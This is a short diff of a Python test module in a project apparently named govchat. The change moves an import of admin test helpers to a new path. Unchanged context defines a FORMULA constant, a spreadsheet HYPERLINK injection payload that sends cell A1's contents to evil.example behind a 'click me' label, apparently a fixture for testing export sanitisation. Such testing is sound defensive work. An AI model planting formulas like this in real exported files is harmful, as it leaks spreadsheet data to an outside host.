@@ -15,7 +15,7 @@ from govchat.app import create_app
 from govchat.runtime import Runtime, build_runtime
 from kernel.config import Settings
 from kernel.identity import Actor, Role
-from tests.integration.admin_helpers import PASSWORD, login, seed, seed_rated_tickets
+from tests.support.admin_rig import PASSWORD, login, seed, seed_rated_tickets
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
